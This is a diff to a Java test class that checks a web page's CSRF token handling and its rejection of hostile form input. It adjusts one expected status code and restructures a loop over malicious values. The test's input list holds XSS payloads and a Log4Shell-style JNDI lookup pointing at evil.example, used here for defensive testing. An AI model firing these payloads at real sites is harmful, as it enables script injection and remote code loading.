@@ -143,7 +143,7 @@ class OwnClientPageTest {
     typed.put("csrf", "forged");
     assertThat(alice.post(PAGE, typed).status()).isEqualTo(403);
     typed.put("csrf", alice.get("/own/account").hidden("csrf").orElseThrow());
-    assertThat(alice.post(PAGE, typed).status()).as("another page's token").isEqualTo(409);
+    assertThat(alice.post(PAGE, typed).status()).as("another page's token").isEqualTo(403);
     Answer elsewhere = site.browser("own", "alice").get(PAGE);
     typed.put("csrf", elsewhere.hidden("csrf").orElseThrow());
     typed.put("transaction", elsewhere.hidden("transaction").orElseThrow());
@@ -218,12 +218,12 @@ class OwnClientPageTest {
   @Test
   void hostile_values_in_any_field_break_nothing_and_become_no_markup() {
     TestBrowser alice = site.browser("own", "alice");
-    Answer page = alice.get(PAGE);
     for (String evil :
         List.of(
             "</textarea><script>alert(1)</script>",
             "\"><img src=x onerror=alert(1)>",
-            "\u0000\u202e",
+            "\u0000",
+            "\u202e",
             "${jndi:ldap://evil.example/}",
             "javascript:alert(1)",
             "x".repeat(9_000),
@@ -232,9 +232,9 @@ class OwnClientPageTest {
       for (String kind : List.of("native", evil)) {
         Map<String, String> typed = OwnClientSite.typed(evil);
         typed.putAll(Map.of("kind", kind, "addresses", evil));
-        page = alice.submit(page, typed);
-        assertThat(page.status()).as(evil).isEqualTo(400);
-        assertThat(page.body()).doesNotContain("<script", "<img");
+        Answer answer = alice.submit(alice.get(PAGE), typed);
+        assertThat(answer.status()).as(evil).isEqualTo(400);
+        assertThat(answer.body()).doesNotContain("<script", "<img");
       }
     }
   }
